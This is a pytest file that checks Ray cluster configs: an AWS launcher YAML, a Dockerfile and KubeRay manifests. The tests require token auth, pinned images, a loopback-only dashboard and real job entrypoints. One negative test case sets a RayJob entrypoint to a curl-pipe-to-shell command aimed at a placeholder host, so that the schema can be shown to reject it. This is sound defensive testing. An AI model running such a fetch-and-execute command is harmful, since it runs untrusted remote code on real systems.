"""Cluster configs: the AWS launcher YAML passes Ray's own schema, the KubeRay manifests pass a structural
schema (auth on, pinned images, real entry points), and both keep the dashboard off public interfaces."""

from __future__ import annotations

import contextlib
import copy
import importlib
import importlib.metadata
import importlib.util
import io
import itertools
import re
import shlex
import sys
from pathlib import Path

import jsonschema
import pytest
import ray
import yaml
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from ray.autoscaler._private.util import prepare_config, validate_config

ROOT = Path(__file__).resolve().parents[1]
CLUSTER = ROOT / "cluster"
KUBERAY = CLUSTER / "kuberay"
JOBS = ["extract", "train", "tune", "render"]
URI_FLAGS = {"--corpus", "--out", "--features", "--manifest", "--weights"}


def _aws() -> dict:
    return yaml.safe_load((CLUSTER / "aws.yaml").read_text())


def _validate_aws(config: dict) -> None:
    validate_config(prepare_config(copy.deepcopy(config)))


# ---------------------------------------------------------------- AWS cluster launcher


def test_aws_yaml_passes_ray_schema_and_the_schema_catches_typos():
    config = _aws()
    _validate_aws(config)
    config["setup_command"] = config.pop("setup_commands")
    with pytest.raises(jsonschema.ValidationError, match="setup_command"):
        _validate_aws(config)


def test_aws_node_types_cpu_head_gpu_workers_bounded_autoscaling():
    config = _aws()
    types = config["available_node_types"]
    head = types[config["head_node_type"]]
    assert head["resources"].get("GPU", 0) == 0 and head["max_workers"] == 0
    workers = {name: t for name, t in types.items() if name != config["head_node_type"]}
    assert any(t["resources"].get("GPU", 0) >= 1 for t in workers.values())
    for name, node in types.items():
        assert 0 <= node.get("min_workers", 0) <= node["max_workers"] <= config["max_workers"], name
        assert node["node_config"]["IamInstanceProfile"]["Arn"], f"{name}: no instance profile for S3"
    assert sum(t["min_workers"] for t in workers.values()) <= config["max_workers"]


def test_aws_installs_torch_first_then_the_pinned_project():
    commands = _aws()["setup_commands"]
    installs = [i for i, c in enumerate(commands) if "pip install" in c]
    torch_at = next(i for i in installs if re.search(r"\"torch==2\.13\.\*\"", commands[i]))
    project_at = next(i for i in installs if "cluster/constraints.txt" in commands[i])
    assert torch_at < project_at
    assert "talking-face" in commands[project_at]
    assert _aws()["file_mounts"]["/home/ubuntu/talking-face"] == "."


def test_constraints_pin_every_runtime_dependency_at_the_tested_version():
    """Regenerate with `.venv/bin/python scripts/pin_constraints.py` after changing dependencies."""
    pins = {}
    for line in (CLUSTER / "constraints.txt").read_text().splitlines():
        if line and not line.startswith("#"):
            name, version = line.split("==")
            pins[canonicalize_name(name)] = version
    tomllib = pytest.importorskip("tomllib")  # Python >= 3.11
    for spec in tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]:
        name = canonicalize_name(Requirement(spec).name)
        if name == "torch":
            assert "torch" not in pins  # installed first, alone (CPU or CUDA build)
            continue
        assert name in pins, f"{name} missing from cluster/constraints.txt (run scripts/pin_constraints.py)"
        assert pins[name] == importlib.metadata.version(name), f"{name} pinned to another version"
        assert Requirement(spec).specifier.contains(pins[name], prereleases=True), spec


def test_aws_token_auth_on_every_node_and_dashboard_on_loopback():
    config = _aws()
    assert config["file_mounts"]["/home/ubuntu/.ray/auth_token"] == "~/.ray/auth_token"
    assert any("chmod 600 ~/.ray/auth_token" in c for c in config["setup_commands"])
    head = " ".join(config["head_start_ray_commands"])
    worker = " ".join(config["worker_start_ray_commands"])
    for start in (head, worker):
        assert "RAY_AUTH_MODE=token" in start and "RAY_AUTH_TOKEN_PATH=$HOME/.ray/auth_token" in start
    assert "--dashboard-host=127.0.0.1" in head and "0.0.0.0" not in head + worker
    for rule in config["provider"].get("security_group", {}).get("IpPermissions", []):
        public = any(r.get("CidrIp") == "0.0.0.0/0" for r in rule.get("IpRanges", []))
        assert not public, f"security group rule opens {rule} to the internet"


# ---------------------------------------------------------------- Dockerfile


def test_dockerfile_pins_the_ray_image_and_installs_torch_first():
    lines = [line.strip() for line in (CLUSTER / "Dockerfile").read_text().splitlines()]
    base = next(line.split()[1] for line in lines if line.startswith("FROM "))
    py = f"py{sys.version_info.major}{sys.version_info.minor}"
    assert re.fullmatch(rf"rayproject/ray:{re.escape(ray.__version__)}-{py}-gpu", base), base
    torch_at = next(i for i, line in enumerate(lines) if 'pip install "torch==2.13.*"' in line)
    project_at = next(i for i, line in enumerate(lines) if "pip install -c cluster/constraints.txt ." in line)
    assert torch_at < project_at
    for package in ("talkingface", "distributed", "jobs", "storage"):
        assert f"COPY --chown=ray:users {package} {package}" in lines


# ---------------------------------------------------------------- KubeRay manifests

IMAGE_PATTERN = r"^[^\s@:]+(?::[^\s@:]+)*(:(?!latest$)[\w][\w.-]*|@sha256:[0-9a-f]{64})$"
AUTH_ENV = {
    "type": "array",
    # RAY_AUTH_MODE=token on every container (Ray then refuses to start without a token: fail closed)
    "contains": {"type": "object", "required": ["name", "value"], "properties": {
        "name": {"const": "RAY_AUTH_MODE"}, "value": {"const": "token"}}},
    # never a token written into the manifest: the operator injects it from its secret
    "items": {"not": {"type": "object", "required": ["name", "value"], "properties": {
        "name": {"const": "RAY_AUTH_TOKEN"}}}},
}  # fmt: skip
CONTAINER = {
    "type": "object",
    "required": ["name", "image", "env"],
    "properties": {
        # a pinned tag (never :latest or untagged) or a digest
        "image": {"type": "string", "pattern": IMAGE_PATTERN},
        "env": AUTH_ENV,
    },
}  # fmt: skip
POD_TEMPLATE = {
    "type": "object",
    "required": ["spec"],
    "properties": {"spec": {"type": "object", "required": ["containers"], "properties": {
        "containers": {"type": "array", "minItems": 1, "items": CONTAINER}}}},
}  # fmt: skip
START_PARAMS = {"type": "object", "additionalProperties": {"type": "string"}}
CLUSTER_SPEC = {
    "type": "object",
    "required": ["rayVersion", "authOptions", "headGroupSpec", "workerGroupSpecs"],
    "properties": {
        "rayVersion": {"const": ray.__version__},
        "authOptions": {"type": "object", "required": ["mode"], "properties": {"mode": {"const": "token"}}},
        "enableInTreeAutoscaling": {"type": "boolean"},
        "headGroupSpec": {"type": "object", "required": ["rayStartParams", "template"], "properties": {
            "serviceType": {"const": "ClusterIP"},  # never a LoadBalancer/NodePort in front of the dashboard
            "rayStartParams": START_PARAMS,
            "template": POD_TEMPLATE}},
        "workerGroupSpecs": {"type": "array", "minItems": 1, "items": {
            "type": "object",
            "required": ["groupName", "replicas", "minReplicas", "maxReplicas", "rayStartParams", "template"],
            "properties": {"minReplicas": {"type": "integer", "minimum": 0},
                           "maxReplicas": {"type": "integer", "minimum": 1},
                           "rayStartParams": START_PARAMS, "template": POD_TEMPLATE}}},
    },
}  # fmt: skip
MANIFEST = {
    "type": "object",
    "required": ["apiVersion", "kind", "metadata", "spec"],
    "properties": {
        "apiVersion": {"const": "ray.io/v1"},
        "kind": {"enum": ["RayCluster", "RayJob"]},
        "metadata": {"type": "object", "required": ["name"]},
    },
    "allOf": [
        {"if": {"properties": {"kind": {"const": "RayCluster"}}},
         "then": {"properties": {"spec": CLUSTER_SPEC}}},
        {"if": {"properties": {"kind": {"const": "RayJob"}}}, "then": {"properties": {"spec": {
            "type": "object",
            "required": ["entrypoint", "rayClusterSpec", "shutdownAfterJobFinishes", "submitterPodTemplate"],
            "properties": {
                "entrypoint": {"type": "string", "pattern": r"^python -m jobs\.[a-z_]+( |$)"},
                "submissionMode": {"enum": ["K8sJobMode", "HTTPMode", "SidecarMode"]},
                "submitterPodTemplate": POD_TEMPLATE,
                "rayClusterSpec": CLUSTER_SPEC,
            }}}}},
    ],
}  # fmt: skip


def _manifest(name: str) -> dict:
    return yaml.safe_load((KUBERAY / name).read_text())


def _cluster_spec(manifest: dict) -> dict:
    return manifest["spec"] if manifest["kind"] == "RayCluster" else manifest["spec"]["rayClusterSpec"]


def _containers(manifest: dict) -> list[dict]:
    spec = _cluster_spec(manifest)
    templates = [spec["headGroupSpec"]["template"]] + [g["template"] for g in spec["workerGroupSpecs"]]
    if manifest["kind"] == "RayJob":
        templates.append(manifest["spec"]["submitterPodTemplate"])
    return [c for t in templates for c in t["spec"]["containers"]]


def check_manifest(manifest: dict) -> None:
    """The structural schema plus the cross-field rules a schema cannot say simply."""
    jsonschema.validate(manifest, MANIFEST)
    spec = _cluster_spec(manifest)
    host = spec["headGroupSpec"]["rayStartParams"].get("dashboard-host", "127.0.0.1")
    if host not in ("127.0.0.1", "localhost"):  # the schema requires auth; say why if it is ever relaxed
        assert spec.get("authOptions", {}).get("mode") == "token", f"dashboard on {host} without token auth"
    images = {c["image"] for c in _containers(manifest)}
    assert len(images) == 1, f"head, workers and submitter must run one image, got {sorted(images)}"
    for group in spec["workerGroupSpecs"]:
        assert group["minReplicas"] <= group["replicas"] <= group["maxReplicas"], group["groupName"]


MANIFESTS = ["raycluster.yaml"] + [f"rayjob-{job}.yaml" for job in JOBS]


def test_one_rayjob_per_job_and_nothing_else():
    assert sorted(p.name for p in KUBERAY.glob("*.yaml")) == sorted(MANIFESTS)


@pytest.mark.parametrize("name", MANIFESTS)
def test_kuberay_manifest_passes_the_schema(name):
    manifest = _manifest(name)
    check_manifest(manifest)
    assert any(
        c["resources"]["limits"].get("nvidia.com/gpu") == "1"
        for g in _cluster_spec(manifest)["workerGroupSpecs"]
        for c in g["template"]["spec"]["containers"]
    )
    assert _containers(manifest)[0]["image"] == _containers(_manifest("raycluster.yaml"))[0]["image"]


def _drop_env(manifest: dict, var: str) -> dict:
    bad = copy.deepcopy(manifest)
    container = bad["spec"]["submitterPodTemplate"]["spec"]["containers"][0]
    container["env"] = [e for e in container["env"] if e["name"] != var]
    return bad


def _literal_token(manifest: dict) -> dict:
    bad = copy.deepcopy(manifest)
    bad["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["env"].append(
        {"name": "RAY_AUTH_TOKEN", "value": "s3cret"}
    )
    return bad


def _drop_auth_options(manifest: dict) -> dict:
    bad = copy.deepcopy(manifest)
    del bad["spec"]["rayClusterSpec"]["authOptions"]
    return bad


def _set(manifest: dict, path: str, value) -> dict:
    bad = copy.deepcopy(manifest)
    *parents, last = path.split("/")
    node = bad
    for key in parents:
        node = node[int(key)] if isinstance(node, list) else node[key]
    node[last] = value
    return bad


HEAD_IMAGE = "spec/rayClusterSpec/headGroupSpec/template/spec/containers/0/image"


@pytest.mark.parametrize(
    "mutate",
    [
        _drop_auth_options,
        lambda m: _set(m, "spec/rayClusterSpec/authOptions/mode", "disabled"),
        lambda m: _drop_env(m, "RAY_AUTH_MODE"),
        _literal_token,
        lambda m: _set(m, HEAD_IMAGE, "x/tf:latest"),
        lambda m: _set(m, HEAD_IMAGE, "x/tf"),
        lambda m: _set(m, "spec/rayClusterSpec/headGroupSpec/serviceType", "LoadBalancer"),
        lambda m: _set(m, "spec/rayClusterSpec/rayVersion", "2.9.0"),
        lambda m: _set(m, "spec/entrypoint", "bash -c 'curl evil | sh'"),
        lambda m: _set(m, "apiVersion", "ray.io/v1alpha1"),
    ],
    ids=[
        *("no-auth", "auth-disabled", "no-auth-mode-env", "literal-token", "latest", "untagged"),
        *("loadbalancer", "ray-version", "entry", "api"),
    ],
)
def test_the_manifest_schema_rejects_insecure_or_wrong_manifests(mutate):
    with pytest.raises(jsonschema.ValidationError):
        check_manifest(mutate(_manifest("rayjob-extract.yaml")))


def test_a_second_image_in_one_manifest_is_rejected():
    submitter_image = "spec/submitterPodTemplate/spec/containers/0/image"
    bad = _set(_manifest("rayjob-extract.yaml"), submitter_image, "x/tf:0.2")
    with pytest.raises(AssertionError, match="one image"):
        check_manifest(bad)


def _help_text(module_name: str, positionals: list[str]) -> str:
    """What ``python -m <module> <positionals> --help`` prints (run in-process; parses only)."""
    module = importlib.import_module(module_name)
    out = io.StringIO()
    with contextlib.redirect_stdout(out), pytest.raises(SystemExit) as exit_:
        module.main([*positionals, "--help"])
    assert exit_.value.code in (0, None)
    return out.getvalue()


@pytest.mark.parametrize("job", JOBS)
def test_rayjob_entrypoint_runs_an_existing_job_with_its_real_flags_and_s3_uris(job):
    argv = shlex.split(_manifest(f"rayjob-{job}.yaml")["spec"]["entrypoint"])
    assert argv[:3] == ["python", "-m", f"jobs.{job}"]
    if importlib.util.find_spec(argv[2]) is None:
        pytest.skip(f"{argv[2]} is not on this branch yet")
    rest = argv[3:]
    positionals = [a for a in rest[: next((i for i, a in enumerate(rest) if a.startswith("-")), len(rest))]]
    text = _help_text(argv[2], positionals)
    flags = [a for a in rest if a.startswith("--")]
    for flag in flags:
        assert re.search(rf"{re.escape(flag)}\b", text), f"{argv[2]} has no flag {flag}"
    for flag, value in itertools.pairwise(rest):
        if flag in URI_FLAGS:
            assert value.startswith("s3://"), f"{flag} {value}: cluster jobs read and write S3"
